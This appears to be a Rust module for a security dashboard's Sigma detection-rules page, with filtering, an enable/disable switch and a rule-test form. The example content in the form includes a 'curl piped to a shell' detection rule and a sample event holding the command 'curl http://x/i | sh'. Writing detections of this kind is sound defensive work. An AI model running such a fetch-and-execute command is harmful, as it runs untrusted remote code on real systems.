//! Detection rules: search, switch on and off (analysts), and try a rule against pasted
//! events before deploying it.

use super::{Query, answer, filter_input, filter_select, next_link, only};
use crate::auth::Role;
use crate::auth::middleware::Principal;
use crate::dashboard::html::{Layout, error_box, esc, field, plain, severity, table};
use crate::routes::rules;
use crate::state::AppState;
use axum::extract::{Extension, Query as Q, State};
use axum::response::Response;
use serde_json::json;

const FILTERS: &[&str] = &["q", "level", "enabled", "cursor"];

/// Shown in the test form to start from.
const EXAMPLE_RULE: &str = "title: Curl piped to a shell\nid: 5b0e3f4e-0000-4000-8000-000000000001\nlogsource:\n  category: process_creation\n  product: linux\ndetection:\n  selection:\n    CommandLine|contains|all: ['curl', '| sh']\n  condition: selection\nlevel: high\n";
const EXAMPLE_EVENTS: &str = "[{\"event\": {\"category\": [\"process\"], \"type\": [\"start\"]}, \"host\": {\"os\": \"linux\"}, \"process\": {\"command_line\": \"sh -c curl http://x/i | sh\"}}]";

pub async fn page(
    State(state): State<AppState>,
    Extension(principal): Extension<Principal>,
    Q(raw): Query,
) -> Response {
    let query = only(&raw, FILTERS);
    let analyst = principal.role >= Role::Analyst;
    let mut body = String::from("<form method=\"get\" class=\"filters\">");
    body.push_str(&filter_input(&query, "q", "Title or id", ""));
    body.push_str(&filter_select(
        &query,
        "level",
        "Level",
        &["info", "low", "medium", "high", "critical"],
    ));
    body.push_str(&filter_select(
        &query,
        "enabled",
        "Enabled",
        &["true", "false"],
    ));
    body.push_str("<button type=\"submit\">Filter</button></form>");
    body.push_str(&noisiest(&state).await);
    match answer(rules::list(State(state), Q(query.clone())).await) {
        Ok(page) => {
            let rows: Vec<Vec<String>> = page["items"]
                .as_array()
                .into_iter()
                .flatten()
                .map(|r| {
                    let id = field(r, "id");
                    let enabled = r["enabled"].as_bool().unwrap_or(true);
                    let tags: Vec<String> = ["tactics", "techniques"]
                        .iter()
                        .filter_map(|k| r[*k].as_array())
                        .flatten()
                        .map(|t| format!("<span class=\"tag\">{}</span>", esc(&plain(t))))
                        .collect();
                    let switch = if analyst {
                        format!(
                            "<button data-api=\"PUT /api/v1/rules/{}\" data-body=\"{}\">{}</button><span data-result></span>",
                            esc(&crate::dashboard::html::url_part(&id)),
                            esc(&json!({"enabled": !enabled}).to_string()),
                            if enabled { "Disable" } else { "Enable" }
                        )
                    } else {
                        String::new()
                    };
                    vec![
                        severity(&field(r, "level")),
                        format!("{}<br><small>{}</small>", esc(&field(r, "title")), esc(&id)),
                        tags.join(" "),
                        if enabled { "on".into() } else { "<b>off</b>".into() },
                        r["false_positives"].as_u64().unwrap_or(0).to_string(),
                        switch,
                    ]
                })
                .collect();
            body.push_str(&table(
                &["Level", "Rule", "Tags", "Enabled", "False positives", ""],
                &rows,
                "No rule matches.",
            ));
            body.push_str(&next_link("/rules", &query, &page["next_cursor"]));
        }
        Err(e) => body.push_str(&error_box(&e)),
    }
    if analyst {
        body.push_str(&format!(
            "<section class=\"card wide\"><h2>Test a rule</h2>\
             <form data-api=\"POST /api/v1/rules/test\" data-show=\"json\">\
             <label>Sigma rule (YAML)<textarea name=\"rule\" rows=\"10\" spellcheck=\"false\">{}</textarea></label>\
             <label>Events (a JSON array, as POST /api/v1/events takes them)<textarea name=\"events\" data-type=\"json\" rows=\"6\" spellcheck=\"false\">{}</textarea></label>\
             <button type=\"submit\">Run</button><div data-result></div></form></section>",
            esc(EXAMPLE_RULE),
            esc(EXAMPLE_EVENTS)
        ));
    }
    Layout {
        title: "Rules",
        section: "/rules",
        principal: &principal,
        live_topics: "",
    }
    .render(&body)
}

/// The rules whose alerts were marked false positives most often, with a link to the
/// suppressions they proposed.
async fn noisiest(state: &AppState) -> String {
    /// Rules shown at most; a rule needs this many marks to be listed.
    const SHOWN: usize = 10;
    const AT_LEAST: u64 = 2;
    let Ok(counts) = state.suppressions.false_positives_by_rule().await else {
        return String::new();
    };
    let mut noisy: Vec<(String, u64)> =
        counts.into_iter().filter(|(_, n)| *n >= AT_LEAST).collect();
    if noisy.is_empty() {
        return String::new();
    }
    noisy.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
    let rows: Vec<Vec<String>> = noisy
        .into_iter()
        .take(SHOWN)
        .map(|(rule, n)| vec![esc(&rule), n.to_string()])
        .collect();
    format!(
        "<section class=\"card wide\" id=\"noisy-rules\"><h2>Most false positives</h2>{}\
         <p>Each false positive proposed a suppression scoped to what its alert named: \
         <a href=\"/api/v1/suppressions?status=proposed\">proposals waiting</a>.</p></section>",
        table(&["Rule", "Marked false positive"], &rows, "")
    )
}
